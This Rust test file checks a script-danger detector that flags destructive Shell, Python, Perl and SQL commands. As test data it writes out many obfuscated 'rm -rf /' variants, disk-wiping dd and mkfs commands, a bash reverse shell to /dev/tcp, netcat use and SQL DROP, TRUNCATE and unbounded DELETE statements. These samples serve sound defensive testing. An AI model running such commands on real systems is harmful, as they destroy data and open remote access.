use packhorse_model::api::scripts::{DangerRule, DangerRuleSpec};
use packhorse_model::danger::Language::{Perl, Python, Shell, Sql};
use packhorse_model::danger::{DangerLevel, RuleOrigin};
use proptest::prelude::*;

use super::*;
use crate::danger::{RuleFault, defaults, validate};

/// `LINE:COLUMN-LINE:COLUMN RULE` of everything that is found, but for the missing interpreter line.
fn found(text: &str, language: Language) -> Vec<String> {
    let check = check(&RuleSet::of_defaults(), text, language);
    let found = check.findings.iter().filter(|finding| finding.rule.as_str() != "no-interpreter-line");
    found.map(|finding| finding.rule.to_string()).collect()
}

fn own(pattern: &str, languages: &[Language]) -> DangerRuleSpec {
    DangerRuleSpec {
        message: "not here".to_owned(),
        level: DangerLevel::High,
        action: DangerAction::Warn,
        languages: languages.to_vec(),
        pattern: Some(pattern.to_owned()),
        is_enabled: true,
    }
}

#[test]
fn every_default_rule_has_a_name() {
    assert_eq!(defaults().len(), super::super::defaults::DEFAULTS.len());
    assert_eq!(RuleSet::of_defaults().rules.len(), 23);
}

#[test]
fn commands_are_found_however_they_are_written() {
    for text in [
        "rm -rf /",
        "rm -r -f /",
        "rm --recursive --force /",
        "rm --recurs -f -- /",
        "/bin/rm -fr //",
        "\\rm -rf /",
        "'rm' -rf \"/\"",
        "rm \\\n  -rf \\\n  /",
        "sudo -u root rm -rf /",
        "cd /; rm -rf /",
        "true && rm -rf /",
        "x=1 rm -rf /",
        "if rm -rf /; then true; fi",
        "echo $(rm -rf /)",
        "echo \"`rm -rf /`\"",
        "bash -c 'rm -rf /'",
        "sh -ec \"rm -rf /\"",
        "eval rm -rf /",
        "ssh -p 22 host rm -rf /",
        "bash <<EOF\nrm -rf /\nEOF",
        "timeout -k 1 5 rm -rf /",
        "env A=b rm -rf /",
        "ls | xargs -n 1 rm -rf /",
        "find . -exec rm -rf / \\;",
        "rm / -rf",
        "f() { rm -rf /; }",
        "nohup rm -rf / &",
        "rm -rf /*",
    ] {
        let rules = found(text, Shell);
        assert!(rules.contains(&"rm-root".to_owned()), "{text}: {rules:?}");
    }
    for text in [
        "# rm -rf /",
        "echo rm -rf /",
        "echo 'x; rm -rf /'",
        "cat <<EOF\nrm -rf /\nEOF",
        "rm -rf / --help",
        "rm /",
        "rm -rf ./x",
        "rm -f /x",
        "grep 'rm -rf /' x",
        "echo x#rm",
    ] {
        assert_eq!(found(text, Shell), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn each_rule_finds_what_it_is_for() {
    for (text, expected) in [
        ("rm -rf $DIR/*", "rm-wildcard"),
        ("rm -r /usr/", "rm-system-folder"),
        ("reboot", "reboot"),
        ("systemctl reboot", "reboot"),
        ("shutdown -h now", "reboot"),
        ("sysctl -w a=1", "sysctl"),
        ("kill -s KILL 1", "kill-named-signal"),
        ("kill -n 9 1", "kill-numbered-signal"),
        ("kill -9 1", "kill-signal-option"),
        ("kill -SIGKILL $PID", "kill-signal-option"),
        ("nc -l 99", "netcat"),
        ("socat a b", "socat"),
        ("bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "bash-reverse-shell"),
        ("echo x > /dev/sda", "write-to-disk"),
        ("> /dev/nvme0n1", "write-to-disk"),
        ("tee /dev/vda", "write-to-disk"),
        ("dd if=a of=/dev/sdb", "dd-to-disk"),
        ("mkfs.ext4 /dev/sdb1", "mkfs"),
        ("fdisk /dev/sda", "partition-disk"),
        ("find / -name x | xargs chmod 777", "find-root-xargs"),
        ("mysql -u a -e 'DROP TABLE t'", "sql-drop-table"),
        ("psql --command='delete from t'", "sql-delete-all"),
        ("mysql <<E\nTRUNCATE t;\nE", "sql-truncate-table"),
    ] {
        assert_eq!(found(text, Shell), [expected], "{text}");
    }
    for text in [
        "reboot --help",
        "kill 1",
        "kill -l",
        "fdisk -l",
        "echo > /dev/null",
        "dd if=/dev/sda of=x",
        "find . | xargs rm",
    ] {
        assert_eq!(found(text, Shell), Vec::<String>::new(), "{text}");
    }
    assert_eq!(found("import os\nos.system('sysctl -a') # sysctl\n# sysctl", Python), ["sysctl"]);
    assert_eq!(found("=pod\nsysctl\n=cut\nprint 1;", Perl), Vec::<String>::new());
}

#[test]
fn what_python_and_perl_hand_to_a_shell_is_looked_into() {
    for text in [
        "os.system(\"rm -rf /\")",
        "subprocess.run('cd /tmp && rm -rf /', shell=True)",
        "subprocess.run([\"rm\", \"-rf\", \"/\"])",
        "subprocess.check_call(['bash', '-c', 'rm -rf /'])",
        "subprocess.Popen(shlex.split(\"rm -rf /\"), cwd='/')",
        "os.popen(f'rm -rf {a} /')",
    ] {
        assert_eq!(found(text, Python), ["rm-root"], "{text}");
    }
    for text in [
        "system(\"rm -rf /\");",
        "system 'rm', '-rf', '/';",
        "my $x = `rm -rf /`;",
        "print qx(rm -rf /);",
        "exec qw(rm -rf /) or die;",
        "open(F, \"rm -rf / |\");",
    ] {
        assert_eq!(found(text, Perl), ["rm-root"], "{text}");
    }
    for text in [
        "print(\"rm -rf /\")",
        "os.system(\"rm -rf /\" + name)",
        "# os.system('rm -rf /')",
        "os.system('echo \\'rm -rf /\\'')",
    ] {
        assert_eq!(found(text, Python), Vec::<String>::new(), "{text}");
    }
    let text = "import os\nos.system(\"\"\"cd /tmp\n  reboot\n\"\"\" + x)\n";
    let found = check(&RuleSet::of_defaults(), text, Python).findings;
    assert_eq!((found[0].rule.as_str(), found[0].span.line, found[0].span.column), ("reboot", 3, 3));
    assert_eq!(found[0].text, "reboot");
}

#[test]
fn statements_are_found_by_what_they_do() {
    for (text, expected) in [
        ("drop table t", "sql-drop-table"),
        ("DROP TEMPORARY TABLE t", "sql-drop-table"),
        ("truncate\ntable t", "sql-truncate-table"),
        ("delete from t", "sql-delete-all"),
        ("delete from t using (select * from u where a = 1) v", "sql-delete-all"),
        ("DELETE /* where */ FROM t -- where", "sql-delete-all"),
        ("with a as (select 1 where true) delete from t", "sql-delete-all"),
        ("update t set a = 'where'", "sql-update-all"),
        ("alter table t add a int", "sql-alter-table"),
        ("SET FOREIGN_KEY_CHECKS=0;", "sql-foreign-key-checks"),
    ] {
        assert_eq!(found(text, Sql), [expected], "{text}");
    }
    for text in [
        "delete from t where a = 1",
        "update t set a = 1 where b",
        "insert into t select 1 on duplicate key update a = 1",
        "-- drop table t",
    ] {
        assert_eq!(found(text, Sql), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn findings_say_where_and_what() {
    let check = check(&RuleSet::of_defaults(), "#!/bin/sh\necho 支付; rm -rf \\\n  /\n", Shell);
    assert!(check.is_blocked && !check.is_truncated);
    insta::assert_json_snapshot!(check.findings, @r#"
    [
      {
        "rule": "rm-root",
        "message": "deletes the root of the file system",
        "level": "critical",
        "action": "block",
        "span": {
          "line": 2,
          "column": 10,
          "end_line": 3,
          "end_column": 4
        },
        "text": "rm -rf \\   /"
      }
    ]
    "#);
}

#[test]
fn rules_of_a_site_look_at_code() {
    let rule = |spec| DangerRule { name: "mine".parse().unwrap(), origin: RuleOrigin::Own, spec, updated_at: None };
    let (rules, unusable) = RuleSet::new(&[rule(own("telnet +host", &[Shell, Sql]))]);
    assert!(unusable.is_empty());
    let places = |text, language| {
        let found = check(&rules, text, language).findings;
        found.iter().map(|finding| (finding.span.line, finding.span.column)).collect::<Vec<_>>()
    };
    assert_eq!(places("# telnet host\na; telnet \\\nhost\n", Shell), [(2, 4)]);
    assert_eq!(places("select 1; select 'telnet host'", Sql), [(1, 19)]);
    let (rules, unusable) = RuleSet::new(&[rule(own("(", &[Shell]))]);
    assert_eq!((rules.rules.len(), unusable.len()), (0, 1));
    let off = DangerRuleSpec { is_enabled: false, ..own("a", &[Shell]) };
    assert!(RuleSet::new(&[rule(off)]).0.rules.is_empty());
}

#[test]
fn bad_rules_are_refused_with_the_reason() {
    let fault = |spec: DangerRuleSpec| validate(&spec).unwrap_err();
    assert_eq!(fault(own("", &[Shell])), RuleFault::Pattern);
    assert_eq!(fault(own(&"a".repeat(501), &[Shell])), RuleFault::Pattern);
    assert_eq!(fault(own("a", &[])), RuleFault::Languages);
    assert_eq!(fault(DangerRuleSpec { message: " ".to_owned(), ..own("a", &[Shell]) }), RuleFault::Message);
    let look = fault(own("(?!x)", &[Shell])).to_string();
    assert_eq!(look, "pattern: look-around, including look-ahead and look-behind, is not supported");
    assert!(matches!(fault(own("(a{1,1000}){1000}", &[Shell])), RuleFault::Syntax(_)));
    assert_eq!(validate(&own(r"\bдел\w+|删除", &[Shell])), Ok(()));
}

#[test]
fn what_is_too_much_is_cut_and_said() {
    let text = format!("{}rm -rf /\n", "reboot\n".repeat(150));
    let check = check(&RuleSet::of_defaults(), &text, Shell);
    assert_eq!((check.findings.len(), check.is_truncated, check.is_blocked), (MAX_FINDINGS, true, true));
    assert_eq!(check.findings[MAX_FINDINGS - 1].rule.as_str(), "rm-root");
}

proptest! {
    #[test]
    fn no_script_makes_it_panic(text in r#"([a-z '"`$(){}<>|&;#\\\n支-]|<<E|\$\(|E\n|rm -rf /|mysql |bash -c ){0,40}"#) {
        for language in [Shell, Python, Sql] {
            let _ = check(&RuleSet::of_defaults(), &text, language);
        }
    }
}
